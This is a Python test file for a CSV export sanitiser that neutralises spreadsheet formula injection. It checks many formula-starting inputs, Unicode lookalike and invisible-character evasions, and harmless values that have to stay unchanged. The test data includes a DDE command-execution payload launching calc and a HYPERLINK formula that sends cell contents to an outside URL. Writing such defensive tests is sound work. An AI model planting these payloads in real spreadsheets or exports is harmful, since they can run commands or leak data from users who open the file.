"""CSV that no spreadsheet runs: the table of what begins a formula, and what must stay as it is."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ledger.exports import spreadsheet

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\t",
    " =1",
    "   @x",
    "\u00a0=1",  # A space that does not break.
    "\ufeff=1",  # A byte order mark.
    "\u200f=1",  # What turns the direction of writing is not seen.
    "\u202e-1",
    "\uff1d1",  # The four in full width.
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\ufe661",  # And in small.
    "\ufe621",
    "\ufe631",
    "\ufe6bx",
    " \t\u200b=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "-1+1",
    "=",
]
HARMLESS = [
    "",
    "Ann",
    "a=1",
    "1-1",
    "'=1",
    '"=1"',
    "  Ann",
    "Assets:HotWallet:P7",
    "خزانة",
    "\u200fشكر = 1",
    "O'Neil",
    "(1)",
    "\\=1",
]


class TestHarmless:
    @pytest.mark.parametrize("text", FORMULAS, ids=ascii)
    def test_puts_an_apostrophe_before_a_formula(self, text: str) -> None:
        assert spreadsheet.harmless(text) == f"'{text}"

    @pytest.mark.parametrize("text", HARMLESS, ids=ascii)
    def test_leaves_all_else_as_it_is(self, text: str) -> None:
        assert spreadsheet.harmless(text) == text


class TestLine:
    def test_keeps_numbers_numbers(self) -> None:
        assert spreadsheet.line([-5, 0, 7, "-5"]) == "-5,0,7,'-5\r\n"

    @given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
    def test_is_read_back_as_one_row_of_harmless_cells(self, cells: list[str]) -> None:
        rows = list(csv.reader(io.StringIO(spreadsheet.line(cells), newline=""), strict=True))
        assert rows == [[spreadsheet.harmless(cell) for cell in cells]]
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in rows[0])
